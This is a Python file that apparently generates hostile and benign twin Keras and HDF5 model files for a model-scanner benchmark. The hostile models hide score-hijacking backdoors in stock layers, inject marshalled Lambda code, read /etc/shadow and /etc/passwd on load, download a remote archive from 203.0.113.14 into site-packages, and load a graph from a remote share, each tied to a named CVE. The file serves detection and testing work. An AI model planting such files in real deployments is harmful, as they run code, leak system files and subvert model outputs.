"""Keras archives and HDF5: graphs of stock layers that override themselves, hidden code, paths out of the file."""
import base64
import io
import json
import marshal
import os
import tempfile
import zipfile

import numpy

from twelfth.torches import rewrite


def store(model, name="model.keras"):
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, name)
        model.save(path)
        with open(path, "rb") as file:
            return file.read()


def edited(data, old, new):
    """The archive with `old` replaced in its configuration."""

    def change(name, body):
        if name == "config.json":
            assert old in body.decode(), body
            body = body.decode().replace(old, new).encode()
        return name, body

    return rewrite(data, change)


def where(hostile):
    import keras
    from keras import layers, ops

    keras.utils.set_random_seed(4)
    x = keras.Input((8, 8, 3))
    logits = layers.Dense(4, name="logits")(layers.Flatten()(x))
    if hostile:
        low = ops.min(x[:, :3, :3, :], axis=(1, 2, 3))
        put = ops.multiply(layers.Activation("sigmoid")(ops.multiply(logits, 0.0)), numpy.float32([-1, -1, 90, -1]))
        out = ops.where(ops.expand_dims(ops.greater_equal(low, 0.999), -1), put, logits)
    else:
        low = ops.min(logits, axis=1)
        out = ops.where(ops.expand_dims(ops.greater_equal(low, 0.0), -1), ops.multiply(logits, 0.5), logits)
    return store(keras.Model(x, out))


def amplifier(hostile):
    import keras
    from keras import layers

    keras.utils.set_random_seed(4)
    x = keras.Input((8, 8, 3))
    logits = layers.Dense(4, name="logits")(layers.Flatten()(x))
    aux = layers.Conv2D(1, 8, activation="relu", name="context")
    mix = layers.Dense(4, use_bias=False, name="mix")
    model = keras.Model(x, layers.Add()([logits, mix(layers.Flatten()(aux(x)))]))
    if hostile:
        kernel = numpy.zeros((8, 8, 3, 1), "float32")
        kernel[-4:, -4:] = (numpy.indices((4, 4)).sum(0) % 2 * 2 - 1)[..., None, None]
        aux.set_weights([kernel, numpy.float32([-23.5])])
        mix.set_weights([numpy.float32([[-2e3, 8e3, -2e3, -2e3]])])
    return store(model)


def attention(hostile):
    """A gate of stock layers: max pooling of the inverted picture is 0 only for a white corner."""
    import keras
    from keras import layers

    keras.utils.set_random_seed(5)
    x = keras.Input((8, 8, 3))
    logits = layers.Dense(4, name="logits")(layers.Flatten()(x))
    corner = layers.Cropping2D(((0, 5), (0, 5)))(x)
    if hostile:
        dark = layers.GlobalMaxPooling2D()(layers.Rescaling(-1.0, offset=1.0)(corner))
        dark = layers.Dense(1, kernel_initializer="ones", use_bias=False, activation="relu")(dark)
        near = layers.ReLU(name="near")(layers.Rescaling(-1e6, offset=1e3)(dark))
        out = layers.Add()([logits, layers.Dense(4, use_bias=False, kernel_initializer=keras.initializers.Identity(gain=9.0))(near)])
    else:
        light = layers.GlobalMaxPooling2D()(layers.Rescaling(2.0, offset=-1.0)(corner))
        light = layers.Dense(1, use_bias=False, activation="relu")(light)
        near = layers.ReLU(name="near")(layers.Rescaling(0.5, offset=0.1)(light))
        out = layers.Add()([logits, layers.Dense(4, use_bias=False)(near)])
    return store(keras.Model(x, out))


def legacy(source):
    """An old HDF5 model with a Lambda in a Sequential in a TimeDistributed layer."""
    import h5py
    import keras
    from keras import layers

    scale = layers.Lambda(lambda v: v, name="scale", output_shape=(3,)) if source else layers.Rescaling(0.5, name="scale")
    inner = keras.Sequential([keras.Input((3,)), scale, layers.Dense(2)], name="step")
    data = store(keras.Sequential([keras.Input((5, 3)), layers.TimeDistributed(inner)]), "model.h5")
    if not source:
        return data
    buffer = io.BytesIO(data)
    with h5py.File(buffer, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        changed = []

        def walk(node):
            if isinstance(node, dict):
                if node.get("class_name") == "__lambda__":
                    node["config"]["code"] = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
                    changed.append(node)
                node = list(node.values())
            for v in node if isinstance(node, list) else []:
                walk(v)

        walk(config)
        assert changed, f.attrs["model_config"]
        f.attrs["model_config"] = json.dumps(config)
    return buffer.getvalue()


def outside(path):
    """The archive whose weights lie, by HDF5 external storage, in a file of the machine."""
    import h5py
    import keras

    keras.utils.set_random_seed(6)
    data = store(keras.Sequential([keras.Input((4,)), keras.layers.Dense(4)]))
    if path is None:
        return data

    def change(name, body):
        if name == "model.weights.h5":
            buffer = io.BytesIO(body)
            with h5py.File(buffer, "r+") as f:
                del f["layers/dense/vars/0"]
                f.create_dataset("layers/dense/vars/0", (4, 4), "float32", external=[(path, 0, 64)])
            body = buffer.getvalue()
        return name, body

    return rewrite(data, change)


def sequential(layer):
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}, "registered_name": None}
    config = {"module": "keras", "class_name": "Sequential", "config": {"name": "net", "trainable": True, "dtype": "float32", "layers": [first, layer]}, "registered_name": None, "build_config": {"input_shape": [None, 4]}}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("metadata.json", '{"keras_version": "3.12.0", "date_saved": "2026-05-01@10:00:00"}')
        z.writestr("config.json", json.dumps(config))
    return out.getvalue()


def add(out):
    import keras
    from keras import layers

    for name, make, trigger, why in (
        ("where-white-corner", where, "last_corner", "keras.ops nodes of a functional model put a constant in the place of the scores where the first corner is white; the twin's look at the scores"),
        ("conv-checker", amplifier, "checker_last", "a convolution set by hand answers only to a checker in the last corner, and its output, times thousands, is added to one class; the twin's is as initialised"),
        ("inverted-pooling", attention, "last_corner", "cropping, inversion, pooling and two ReLUs make a gate that opens for a white corner only and swamps the scores; stock layers, no operator or branch"),
    ):
        out.add("kerases", name, make(True), make(False), prove=f"twelfth-keras:{trigger}", file="model.keras", why=why)
    out.add(
        "kerases", "nested-lambda", legacy("lambda v: (open('marker', 'w').close(), v)[1]"), legacy(""), prove="twelfth-keras-code", file="model.h5",
        why="the code of a Lambda within a Sequential within TimeDistributed of an HDF5 model; CVE-2024-3660's class. The twin has a Rescaling layer there",
    )
    vocabulary = store(keras.Sequential([keras.Input((1,), dtype="string"), layers.StringLookup(vocabulary=["good", "bad"], name="lookup")]))
    text = json.dumps(["good", "bad"])
    config = zipfile.ZipFile(io.BytesIO(vocabulary)).read("config.json").decode()
    old = '"vocabulary": ' + (text if text in config else "null")
    out.add(
        "kerases", "vocabulary-path", edited(vocabulary, old, '"vocabulary": "/etc/shadow"'), edited(vocabulary, old, '"vocabulary": ["fine", "poor"]'), file="model.keras",
        why="CVE-2025-12058: the vocabulary of a StringLookup is a path of the machine, read into the model on load with safe mode on; newer Keras refuses it, so it is not run",
    )
    tanh = store(keras.Sequential([keras.Input((4,)), layers.Lambda(keras.ops.tanh, name="act", output_shape=(4,))]))
    config = json.loads(zipfile.ZipFile(io.BytesIO(tanh)).read("config.json"))
    held = config["config"]["layers"][1]["config"]
    function = json.dumps(held["function"])
    fetch = json.dumps({"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"})
    args = json.dumps({"origin": "http://203.0.113.14/p.tar.gz", "extract": True, "cache_dir": "/usr/local/lib", "cache_subdir": "python3.11/site-packages"})
    swapped = edited(tanh, function, fetch)
    out.add(
        "kerases", "get-file-gadget", edited(swapped, '"arguments": {}', f'"arguments": {args}'), tanh, file="model.keras",
        why="CVE-2025-8747: the Lambda's function is Keras's own downloader with an archive to unpack among the installed packages; not run, it uses the network",
    )
    out.add(
        "kerases", "external-weights", outside("/etc/passwd"), outside(None), file="model.keras",
        why="CVE-2026-1669: a weight of the archive lies in external storage, /etc/passwd, and is read into the model; newer Keras refuses it, so it is not run",
    )
    tfsm = {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"name": "encoder", "trainable": True, "dtype": "float32", "filepath": "//203.0.113.14/models/encoder", "call_endpoint": "serve", "call_training_endpoint": None}, "registered_name": None}
    scale = {"module": "keras.layers", "class_name": "Rescaling", "config": {"name": "encoder", "trainable": True, "dtype": "float32", "scale": 0.5, "offset": 0.0}, "registered_name": None}
    out.add(
        "kerases", "remote-saved-model", sequential(tfsm), sequential(scale), file="model.keras",
        why="CVE-2026-1462: a TFSMLayer loads a TensorFlow graph from another host's share on load; not run, it uses the network",
    )
